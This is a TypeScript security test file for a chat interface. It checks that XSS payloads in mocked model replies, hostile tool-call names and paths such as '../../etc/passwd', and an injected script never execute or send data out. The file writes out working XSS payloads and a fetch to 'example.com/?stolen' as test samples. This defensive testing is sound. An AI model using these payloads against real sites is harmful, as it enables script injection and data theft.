import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type App, eventually } from '../../support/app.ts'
import { cases } from '../../support/runs.ts'
import { useScene } from '../../support/scene.ts'
import { type ServedFolder, serveFolder } from '../../support/serve-folder.ts'

const scene = useScene()
/** Where stolen things would arrive: on loopback, which the page's policy lets images and fetches through to. */
let attacker: ServedFolder

beforeAll(async () => {
  attacker = await serveFolder(import.meta.dirname)
})
afterAll(() => attacker.close())

const malice = (url: string): string =>
  [
    '# Hello <img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>',
    `<img src="${url}pixel-html.png"> ![pixel](${url}pixel-markdown.png) <svg onload="window.pwned=3"></svg>`,
    `<iframe src="${url}frame.html"></iframe>`,
    `<style>body { background: url(${url}style.png) }</style>`,
    `<link rel="stylesheet" href="${url}link.css">`,
    `<video src="${url}video.mp4" autoplay></video>`,
    'A <a href="javascript:window.pwned=4">click me</a>',
    'and [and me](javascript:window.pwned=5) [or me](data:text/html,<script>1</script>)',
    `<form action="${url}form"><button>Save</button><input name="key"></form>`,
    '<p style="position:fixed;inset:0">cover</p>',
    '<div id="root">clobber</div>',
    'See [a good link](https://example.com/page)',
    'end-of-malice',
  ].join('\n\n')

/** Whatever the page or the worker asks for while the scene lasts. */
function watchRequests(app: App): string[] {
  const asked: string[] = []
  scene.browser.context.on('request', (request) => asked.push(request.url()))
  app.page.on('request', (request) => asked.push(request.url()))
  return asked
}

describe('what a model says', () => {
  it.each(cases<'text' | 'thinking' | 'file'>(['text'], ['thinking', 'file']))(
    'is never executed and fetches nothing: as %s',
    async (where) => {
      const { app, mock } = scene
      const text = malice(attacker.url)
      const write = { name: 'write_file', arguments: { path: 'note.md', content: text } }
      const replies = {
        text: [{ text }],
        thinking: [{ thinking: text, text: 'end-of-malice' }],
        file: [{ text: '', toolCalls: [write] }, { text: 'end-of-malice' }],
      }
      mock.setScript(replies[where])
      const asked = watchRequests(app)
      await app.connect({ kind: 'OpenAI-compatible', baseUrl: mock.baseUrl })
      await app.send('Be evil')
      await app.untilAnswer('end-of-malice')
      await app.untilStatus('Idle')
      if (where === 'thinking') await app.thinking.getByText(/^Thought (about it|for)/).click()
      if (where === 'file') await app.files.getByRole('treeitem', { name: 'note.md' }).click()
      const shown = where === 'file' ? app.files : app.conversation
      await shown.getByText('end-of-malice').first().waitFor()

      // proof that it was rendered as markdown and not merely shown as source
      const link = shown.getByRole('link', { name: /a good link/ })
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer')
      expect(await link.textContent()).toContain('example.com')
      for (const words of ['click me', 'and me', 'or me'])
        expect(await shown.getByRole('link', { name: words }).count()).toBe(0)
      const said = where === 'file' ? app.files.locator('.markdown') : app.answers.last()
      const dangerous = await said.evaluate((element) =>
        [
          ...element.querySelectorAll(
            'img, svg[onload], iframe, script, style, link, video, form, [style], [id=root], [onerror]',
          ),
        ].map(({ tagName }) => tagName),
      )
      expect(dangerous).toEqual([])
      expect(await app.page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined()
      const foreign = asked.filter(
        (url) => !url.startsWith(scene.site.url) && !url.startsWith(mock.url) && !/^(blob|data):/.test(url),
      )
      expect(foreign).toEqual([])
      expect(attacker.requests).toEqual([])
    },
  )

  it('as the name of a tool, its arguments or a path: a result that the model can read, and nothing breaks', async () => {
    const { app, mock } = scene
    const calls = [
      { name: '<img src=x onerror=alert(1)>', arguments: { a: 1 } },
      { name: 'write_file', arguments: { path: '../../etc/passwd', content: 'x' } },
      { name: 'write_file', arguments: { path: '', content: 'x' } },
      { name: 'write_file', arguments: { path: 'n'.repeat(10_000), content: 'x' } },
      { name: 'read_file', arguments: { path: 5 } },
    ]
    mock.setScript([{ text: 'Trying.', toolCalls: calls }, { text: 'So be it.' }])
    await app.connect({ kind: 'OpenAI-compatible', baseUrl: mock.baseUrl })
    await app.send('Try')
    await app.untilAnswer('So be it.')
    await app.untilStatus('Idle')
    await app.page.setViewportSize({ width: 1280, height: 6000 })
    const cards = app.conversation.getByRole('group', { name: /^Tool call: / })
    await eventually(() => cards.count()).toBe(calls.length)
    await eventually(async () => (await cards.allTextContents()).filter((text) => !text.includes('Error'))).toEqual([])
    await app.openFiles()
    expect(await app.files.getByRole('treeitem').count()).toBe(0)
    // each call got its answer
    const results = mock.journal()[1]?.body.messages?.filter(({ role }) => role === 'tool')
    expect(results).toHaveLength(calls.length)
    expect(mock.journal()).toHaveLength(2)
  })

  it.each(
    cases<[what: string, bytes: string]>(
      [['a web page', '<!doctype html><h1>Login</h1>']],
      [
        ['not JSON', 'data: {"choices": [{"del\n\ndata: [DONE]\n\n'],
        ['nothing', ''],
      ],
    ),
  )('%s instead of an answer: tried again, then answered', async (_what, bytes) => {
    const { app, mock } = scene
    mock.setScript([{ raw: { chunks: [bytes] } }, { text: 'Sorry about that.' }])
    await app.connect({ kind: 'OpenAI-compatible', baseUrl: mock.baseUrl })
    await app.send('Hello')
    await app.untilAnswer('Sorry about that.')
    await app.untilStatus('Idle')
    expect(mock.journal()).toHaveLength(2)
  })
})

describe('a script in the page', () => {
  it('can make no HTML of a string, evaluate none, and fetch from nowhere else', async () => {
    const { app, folder, site } = scene
    scene.allowComplaint(/./)
    await app.button('Try the demo').click()
    await app.untilStatus('Idle')
    writeFileSync(
      join(folder, 'injected.js'),
      `window.outcome = [
        () => { document.querySelector('main').innerHTML = '<b>x</b>' },
        () => { eval('1') },
        () => { new Worker('data:text/javascript,1') },
        () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') },
      ].map((attack) => { try { attack(); return 'done' } catch (error) { return error.name } })
      window.fetched = fetch('https://example.com/?stolen').then(() => 'sent', (error) => error.name)
      window.blamed = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (event) => {
        if (event.blockedURI.includes('example.com')) resolve(event.effectiveDirective)
      }))`,
    )
    await app.page.addScriptTag({ url: `${site.url}injected.js` }).catch(() => undefined)
    const { outcome, blamed } = await app.page.evaluate(async () => {
      const page = window as unknown as { outcome: string[]; blamed: Promise<string> }
      return { outcome: page.outcome, blamed: await page.blamed }
    })
    expect(outcome).toEqual(['TypeError', 'EvalError', 'TypeError', 'TypeError'])
    expect(blamed).toBe('connect-src')
  })
})
